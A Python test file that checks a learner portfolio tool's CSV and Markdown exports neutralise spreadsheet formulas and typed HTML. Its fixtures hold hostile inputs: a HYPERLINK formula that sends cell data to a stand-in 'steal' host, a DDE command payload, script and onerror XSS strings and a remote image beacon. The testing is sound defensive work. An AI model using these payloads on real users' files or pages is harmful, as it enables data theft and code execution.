"""Exports are safe to open: CSV cells never run as spreadsheet formulas, Markdown carries no HTML.

Learners type titles, descriptions and witness names; tutors open the CSVs in a spreadsheet and
the Markdown in a viewer. Each CSV cell a spreadsheet would run (OWASP's =, +, -, @, tab, CR) is
written behind a single quote, and reading the file back gives the original text.
"""
from __future__ import annotations

import csv
import io
from dataclasses import replace

import mistune
import pytest

from workbook.atomic import write_atomic
from workbook.course.evidence_rules import load_rules
from workbook.course.loader import load_course
from workbook.learner.evidence import EvidenceItem, Witness
from workbook.learner.portfolio_export import export_text, read_export
from workbook.spreadsheet import CsvRows, csv_text, original_cell, read_csv_file, safe_cell
from workbook.tutor.cohort import (
    NOT_STARTED,
    Cell,
    CohortReport,
    CriterionRef,
    LearnerReport,
    OutcomeStatus,
)
from workbook.tutor.report import learners_csv

FORMULAS = ["=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
AWKWARD = ["'", "''", "'=1+1", "''=1+1", "'quoted", "a=1", "", "plain text", "3-2", "x\n=1",
           'say "hi", then go', "é – ✔"]


def spreadsheet_sees(text: str) -> list[list[str]]:
    """Cells as a spreadsheet parses them from the file (before any formula check)."""
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_written_as_text(value):
    [header, row] = spreadsheet_sees(csv_text(["title"], [[value]]))
    assert row == ["'" + value]
    assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", FORMULAS + AWKWARD)
def test_every_text_reads_back_exactly(value):
    text = csv_text(["id", "title"], [["e1", value]])
    rows = CsvRows(text)
    assert list(rows) == [{"id": "e1", "title": value}]
    assert original_cell(safe_cell(value)) == value


def test_numbers_stay_numbers_and_safe_text_is_unchanged():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5
    assert spreadsheet_sees(csv_text(["n", "t"], [[-3, "plain"]]))[1] == ["-3", "plain"]


def test_report_csv_neutralises_learner_and_rule_text():
    ref = CriterionRef("u", "LO1", "1.1", "text", "U 1.1")
    bad = LearnerReport("=evil", {"U 1.1": Cell(0, 0, 0, False, False)},
                        (OutcomeStatus("u", "LO1", NOT_STARTED, None, "u-assessment", ("@SUM(1)",)),),
                        (), (), ())
    [row] = spreadsheet_sees(learners_csv(CohortReport((ref,), (bad,))))[1:]
    assert row[0] == "'=evil" and row[11] == "'@SUM(1)"  # the unmet rules column
    assert [r["learner"] for r in CsvRows(learners_csv(CohortReport((ref,), (bad,))))] == ["=evil"]


# --- the portfolio exports, written from what a learner typed ------------------------------

UNIT = "lead-person-centred-practice"
NASTY = {
    "title": "=HYPERLINK(\"http://example.invalid/steal?\"&A1,\"Open\")",
    "description": "-2+3\n@SUM(A1)\n<script>alert('x')</script>\r=1+1",
    "location": "+44 folder",
    "witness": "\tTab Name",
}


def nasty_item() -> EvidenceItem:
    return EvidenceItem(id="e1", type="expert-witness", title=NASTY["title"], date="2026-02-10",
                        description=NASTY["description"], location=NASTY["location"],
                        criteria=("1.1",), models=("VIPS framework",),
                        witness=Witness(name=NASTY["witness"], role="@manager",
                                        relationship="'line manager", competence="=NVQ",
                                        reason="-"))


def test_portfolio_csv_is_safe_and_imports_back_exactly(tmp_path):
    unit = load_course().unit(UNIT)
    item = nasty_item()
    path = tmp_path / "portfolio.csv"
    write_atomic(path, export_text("csv", unit, load_rules(unit), [item]))
    cells = spreadsheet_sees(read_csv_file(path))
    written = dict(zip(cells[0], cells[1], strict=True))
    for column in ("title", "description", "location", "witness_name", "witness_role",
                   "witness_competence", "witness_reason"):
        assert written[column].startswith("'"), column
    assert written["witness_relationship"] == "''line manager"
    [back] = read_export(path, unit)
    assert (back.title, back.description, back.location) == \
        (NASTY["title"], NASTY["description"], NASTY["location"])
    assert back.witness == item.witness


def test_portfolio_markdown_shows_typed_html_and_links_as_text():
    unit = load_course().unit(UNIT)
    item = replace(nasty_item(), title="<img src=x onerror=alert(1)> and [link](javascript:alert(1))",
                   location="![beacon](http://example.invalid/t.png)",
                   description="Line one <b>bold</b>\n\n| a | b |\n`code` *em* _em_ \\ end")
    text = export_text("md", unit, load_rules(unit), [item])
    rendered = mistune.html(text)
    for tag in ("<img", "<a ", "<b>", "<script", "<code>", "<em>"):
        assert tag not in rendered, tag
    assert "&lt;img src=x onerror=alert(1)&gt; and [link](javascript:alert(1))" in rendered
    assert "![beacon](http://example.invalid/t.png)" in rendered
    assert "Line one &lt;b&gt;bold&lt;/b&gt;" in rendered and "`code` *em* _em_ \\ end" in rendered
